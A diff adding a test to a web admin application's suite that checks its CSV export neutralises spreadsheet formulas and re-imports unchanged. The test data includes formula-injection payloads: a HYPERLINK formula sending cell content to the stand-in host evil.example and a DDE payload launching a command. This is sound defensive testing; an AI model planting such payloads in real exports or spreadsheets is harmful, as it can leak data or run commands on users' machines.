@@ -151,3 +151,26 @@ async def test_hsts_and_secure_cookies_behind_https(make_harness, sqlite_db) -> 
 async def test_no_hsts_over_plain_http(harness) -> None:
     response = await harness.client.get("/admin/login")
     assert "Strict-Transport-Security" not in response.headers
+
+
+# -- CSV export never hands a spreadsheet a formula ---------------------------------------------------------
+async def test_csv_export_neutralises_formulas_and_imports_back_unchanged(routed) -> None:
+    csrf = {"X-CSRF-Token": await routed.sign_in("anna")}
+    formula = '=HYPERLINK("https://evil.example/?"&A1,"Klicka")'
+    for record_id, name, phone in (("c-f1", formula, "+46 8 508 000 00"), ("c-f2", "@SUM(1+1)", "-1"),
+                                   ("c-f3", "+cmd|' /C calc'!A0", "08-123")):
+        response = await routed.client.post("/admin/api/tables/contacts", headers=csrf, json={
+            "id": record_id, "name": name, "unit_id": "farsta-soc", "phone": phone, "priority": 1})
+        assert response.status == 201, await response.text()
+    exported = await (await routed.client.get("/admin/api/export/contacts.csv")).text()
+    import csv
+    import io
+
+    cells = [cell for row in csv.reader(io.StringIO(exported)) for cell in row]
+    assert not any(cell[:1] in ("=", "+", "-", "@") for cell in cells), [c for c in cells if c[:1] in "=+-@"]
+    assert "'" + formula in cells and "'+46 8 508 000 00" in cells and "'-1" in cells
+    # The exported file imports back as the very same records: nothing changes.
+    response = await routed.client.post("/admin/api/import/preview", headers=csrf, json={
+        "files": [{"name": "contacts.csv", "text": exported}]})
+    summary = (await response.json())["summary"]
+    assert response.status == 200 and summary["updated"] == {} and summary["created"] == {}, summary
